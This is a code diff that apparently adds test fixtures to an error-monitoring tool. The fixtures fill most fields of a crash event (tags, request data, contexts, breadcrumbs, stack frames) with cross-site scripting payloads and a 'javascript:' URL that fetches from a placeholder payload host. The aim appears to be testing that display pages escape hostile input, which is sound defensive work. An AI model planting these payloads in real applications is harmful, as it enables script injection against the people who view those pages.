@@ -80,3 +80,64 @@ export function hostileEvent(): Record<string, unknown> {
     sdk: { name: 'sentry.javascript.node', version: '11.12.0' },
   };
 }
+
+/** A string that would run, or be requested, if a page made a link or an image of it. */
+export const JAVASCRIPT_URL = `javascript:alert(document.domain);fetch('http://${PAYLOAD_HOST}/js')`;
+
+/**
+ * hostileEvent, with payloads in every other field the issue page, the raw JSON, the tag breakdown
+ * and the customer page show too: contexts, request query and body, extra data, frame module and
+ * paths, the exception's module and mechanism, and `javascript:` URLs where a page might make a link.
+ */
+export function hostileEventEverywhere(): Record<string, unknown> {
+  const base = hostileEvent();
+  const exception = (base.exception as { values: Array<Record<string, unknown>> }).values[0]!;
+  const frames = (exception.stacktrace as { frames: Array<Record<string, unknown>> }).frames;
+  return {
+    ...base,
+    tags: { ...(base.tags as object), url: JAVASCRIPT_URL, browser: `Chrome ${img(17)}` },
+    user: { ...(base.user as object), ip_address: '203.0.113.9', segment: JAVASCRIPT_URL },
+    request: {
+      ...(base.request as object),
+      query_string: `q=${img(18)}`,
+      data: { comment: script(19), homepage: JAVASCRIPT_URL },
+    },
+    contexts: {
+      runtime: { name: 'node', version: `24 ${svg(12)}` },
+      browser: { name: `Chrome ${img(20)}`, version: '131' },
+      os: { name: `Linux ${svg(21)}`, version: script(22) },
+      device: { family: img(23), model: JAVASCRIPT_URL },
+    },
+    extra: { cart: img(24), next: JAVASCRIPT_URL },
+    breadcrumbs: {
+      values: [
+        ...(base.breadcrumbs as { values: unknown[] }).values,
+        { timestamp: Date.now() / 1000, category: 'navigation', data: { from: '/', to: JAVASCRIPT_URL } },
+      ],
+    },
+    exception: {
+      values: [
+        {
+          ...exception,
+          module: `shop${svg(25)}`,
+          mechanism: { type: `onerror${img(26)}`, handled: false },
+          stacktrace: {
+            frames: [
+              ...frames,
+              {
+                filename: JAVASCRIPT_URL,
+                abs_path: `http://${PAYLOAD_HOST}/bundle.js`,
+                module: `vendor${img(27)}`,
+                package: script(28),
+                function: 'render',
+                lineno: 1,
+                in_app: true,
+                context_line: img(29),
+              },
+            ],
+          },
+        },
+      ],
+    },
+  };
+}
